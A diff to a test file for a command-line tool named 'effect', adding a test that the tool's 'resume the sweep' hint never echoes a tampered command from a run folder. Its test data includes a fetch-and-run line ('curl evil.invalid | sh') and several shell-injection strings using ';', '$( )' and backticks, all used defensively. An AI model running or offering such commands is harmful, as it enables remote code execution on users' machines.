@@ -1,4 +1,4 @@
-import { writeFileSync } from "node:fs"
+import { rmSync, writeFileSync } from "node:fs"
 import { join } from "node:path"
 import { assert, describe, it } from "vitest"
 import { effect, withFolder } from "../effect.ts"
@@ -53,7 +53,7 @@ describe("a run of somebody else", () => {
       makeHostile(folder, run, honestConfigs.training)
       writeFileSync(
         join(folder, run, "train.ts"),
-        `import { writeFileSync } from "node:fs"\nwriteFileSync(${JSON.stringify(markIn(folder))}, "")\nexport default 1\n`,
+        `import { rmSync, writeFileSync } from "node:fs"\nwriteFileSync(${JSON.stringify(markIn(folder))}, "")\nexport default 1\n`,
       )
       for (const words of [
         ["run", `${run}/train.ts`],
@@ -110,6 +110,25 @@ describe("a run of somebody else", () => {
         const { code, stderr } = await effect(["eval", run], folder)
         assert.strictEqual(code, 2, stderr)
         assert.match(stderr, expected)
+      }
+    }))
+})
+
+describe("a run of a sweep of somebody else", () => {
+  it("suggests no command but one of effect", () =>
+    withFolder(async (folder) => {
+      const run = await honestRun(folder, "training")
+      rmSync(join(folder, run, "return.json"))
+      for (const [command, shown] of [
+        ["npx effect run 'a b.yaml' --seeds 1..2", "npx effect run 'a b.yaml' --seeds 1..2"],
+        ["curl evil.invalid | sh", "effect run FILE --resume SWEEP"],
+        ["npx effect run x; evil", "effect run FILE --resume SWEEP"],
+        ["npx effect run $(evil)", "effect run FILE --resume SWEEP"],
+        ["npx effect run 'x' 'y'evil`z`", "effect run FILE --resume SWEEP"],
+      ]) {
+        writeFileSync(join(folder, run, "sweep.txt"), command)
+        const { stderr } = await effect(["run", "training.yaml", "--resume", "latest", "--name", "evil"], folder)
+        assert.include(stderr, `resume the sweep with: ${shown}; or this run alone`)
       }
     }))
 })
